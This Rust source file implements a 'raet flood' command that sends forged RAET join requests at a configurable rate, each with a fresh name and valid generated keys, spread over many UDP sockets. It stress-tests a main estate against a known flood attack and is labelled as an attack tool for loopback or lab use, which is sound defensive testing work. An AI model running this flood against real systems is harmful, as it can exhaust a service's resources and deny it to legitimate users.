//! `raet flood`: forged first contacts for testing a main's bounds (issue 10's attack): join
//! requests with fresh names and fresh valid keys, from `--sources` UDP sockets, at `--rate`
//! per second for `--seconds`. Loopback or a lab only: it is an attack tool on purpose.

use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use clap::Args;
use raet::crypto::Signer;
use raet::packet::{join, JoinRepr};
use rand_core::OsRng;
use serde_json::json;

use crate::{EXIT_FAILED, EXIT_OK};

/// Options of `raet flood`.
#[derive(Args, Debug, Clone)]
pub(crate) struct FloodArgs {
    /// The main estate to flood (host:port).
    #[arg(long, value_name = "ADDR")]
    pub to: SocketAddr,
    /// Join requests per second.
    #[arg(long, value_name = "N", default_value_t = 2000)]
    pub rate: u32,
    /// For this many seconds.
    #[arg(long, value_name = "S", default_value_t = 10.0)]
    pub seconds: f64,
    /// Source sockets (addresses) the requests are spread over.
    #[arg(long, value_name = "N", default_value_t = 64)]
    pub sources: usize,
    /// Prefix of the fresh names (`PREFIX-N`).
    #[arg(long, value_name = "TEXT", default_value = "flood")]
    pub prefix: String,
}

/// Sends the flood; prints one JSON line with what was sent.
pub(crate) async fn run(args: FloodArgs) -> ExitCode {
    match tokio::task::spawn_blocking(move || flood(&args)).await {
        Ok(Ok(sent)) => {
            println!("{}", json!({"event": "flooded", "sent": sent}));
            ExitCode::from(EXIT_OK)
        }
        Ok(Err(e)) => {
            eprintln!("raet flood: {e}");
            ExitCode::from(EXIT_FAILED)
        }
        Err(e) => {
            eprintln!("raet flood: {e}");
            ExitCode::from(EXIT_FAILED)
        }
    }
}

/// The flood itself, paced in 10 ms steps; the number of requests sent.
fn flood(args: &FloodArgs) -> std::io::Result<u64> {
    let bind = match args.to.ip() {
        IpAddr::V4(_) => IpAddr::V4(Ipv4Addr::LOCALHOST),
        IpAddr::V6(_) => IpAddr::V6(std::net::Ipv6Addr::LOCALHOST),
    };
    let sockets = (0..args.sources.max(1))
        .map(|_| UdpSocket::bind(SocketAddr::new(bind, 0)))
        .collect::<std::io::Result<Vec<_>>>()?;
    let start = Instant::now();
    let total = (f64::from(args.rate) * args.seconds) as u64;
    let mut sent = 0u64;
    while sent < total {
        let due = (start.elapsed().as_secs_f64() * f64::from(args.rate)) as u64;
        while sent < due.min(total) {
            // Valid keys, the curve key derived from the signing key (as salt-raet's own).
            let verify = Signer::generate(&mut OsRng).verify_key();
            let name = format!("{}-{sent}", args.prefix);
            let body = JoinRepr {
                name: name.clone(),
                mode: 0,
                kind: 0,
                uid: None,
                verhex: verify.to_hex(),
                pubhex: verify.to_public_key().to_hex(),
                role: name,
                fast: false,
            }
            .emit();
            let se = u32::try_from(sent % 1_000_000).unwrap_or(0) + 2;
            let datagram = join::request(se, 0, 1, &body).map_err(std::io::Error::other)?;
            let socket = &sockets[(sent % sockets.len() as u64) as usize];
            // A full socket buffer loses a request, as the network would.
            let _ = socket.send_to(&datagram, args.to);
            sent += 1;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    Ok(sent)
}
